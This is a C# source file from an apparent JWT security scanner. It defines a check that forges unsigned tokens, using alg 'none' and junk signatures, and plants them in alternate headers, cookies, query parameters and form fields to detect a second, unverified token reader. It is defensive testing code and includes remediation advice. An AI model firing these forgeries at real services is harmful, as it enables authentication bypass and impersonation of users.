using CryptoAssert.Http;
using CryptoAssert.Jwt.Jose;

namespace CryptoAssert.Jwt.Attacks;

/// <summary>
/// A token that nobody signed, alone, wherever else code looks for one: behind another scheme, in the address, a cookie, a form,
/// a header that "only the gateway sets". The front door verifies; whoever wrote the second one decodes. RFC 8725 3.3.
/// </summary>
internal sealed class ForgedOutsideItsPlace : JwtAttack
{
    public const string StableId = "CRY7444";

    private static readonly string[] Schemes = ["Bearer", "bearer", "BEARER", "JWT", "Token"];

    private static readonly string[] Headers =
    [
        "X-Access-Token", "X-Auth-Token", "X-JWT-Assertion", "x-amzn-oidc-data", "x-amzn-oidc-accesstoken",
        "X-Forwarded-Access-Token", "X-Goog-IAP-JWT-Assertion", "Cf-Access-Jwt-Assertion", "X-MS-TOKEN-AAD-ACCESS-TOKEN",
        "X-ID-Token", "X-Authorization", "Token",
    ];

    private static readonly string[] Cookies =
        ["access_token", "token", "jwt", "Authorization", "auth_token", "id_token", "session"];

    private static readonly string[] Parameters = ["access_token", "token", "jwt", "auth_token", "id_token"];

    private static readonly string[] Fields = ["access_token", "token", "jwt"];

    public override string Id => StableId;

    public override JwtFamily Family => JwtFamily.Place;

    public override IReadOnlyList<int> Cwe => [347, 288];

    public override IReadOnlyList<string> References => ["RFC 8725 3.3", "RFC 6750 2", "ASVS 9.1.1"];

    public override string Cause => "accepted, outside the token's place, a token that nobody signed";

    public override string Why => "anyone can become anyone by another door than the one that is guarded";

    public override string Fix =>
        "remove the second reader, or hand its token to AddJwtBearer in OnMessageReceived; no ReadJwtToken, no trust in a "
        + "gateway's header";

    internal override IReadOnlyList<string> ExplainedBy =>
        ["CRY1000", "CRY1001", "CRY1012", "CRY1212", UnsignedTokenInUse.StableId];

    internal override IEnumerable<Forgery> Forge(Attacker attacker)
    {
        var token = attacker.Token;
        var unsigned = $"{token.HeaderWith(header => header["alg"] = "none")}.{token.PayloadSegment}.";
        var junk = $"{token.SigningInput}.{RawJwt.Segment(attacker.Bytes(Math.Max(32, token.Signature.Length)))}";
        foreach (var (where, put) in Places(attacker))
        {
            yield return At(junk, $"{where}, junk signature");
            yield return At(unsigned, $"{where}, alg none");

            Forgery At(string forged, string variant) =>
                new(forged, variant) { Deliver = (request, text, _) => put(request, text) };
        }
    }

    private static IEnumerable<(string Where, Action<OutgoingRequest, string> Put)> Places(Attacker attacker)
    {
        var places = Schemes.Select(TokenPlace (scheme) => new TokenInHeader("Authorization", scheme))
            .Append(new TokenInHeader("Authorization", scheme: null))
            .Append(new TokenInHeader("X-Authorization", "Bearer"))
            .Append(new TokenInHeader("X-Forwarded-Authorization", "Bearer"))
            .Concat(Headers.Select(name => new TokenInHeader(name, scheme: null)))
            .Concat(Cookies.Select(name => new TokenInCookie(name)));
        foreach (var place in places.Where(place => place.Description != attacker.Place.Description))
        {
            yield return (place.Description, place.Put);
        }

        foreach (var name in Parameters)
        {
            yield return ($"?{name}=", (request, token) => TokenInQuery.Put(request, name, token));
        }

        // elsewhere a body makes some servers cut the connection
        foreach (var name in attacker.Method.Method is "POST" or "PUT" or "PATCH" ? Fields : [])
        {
            yield return ($"form field {name}", (request, token) => TokenInForm.Put(request, name, token));
        }
    }
}
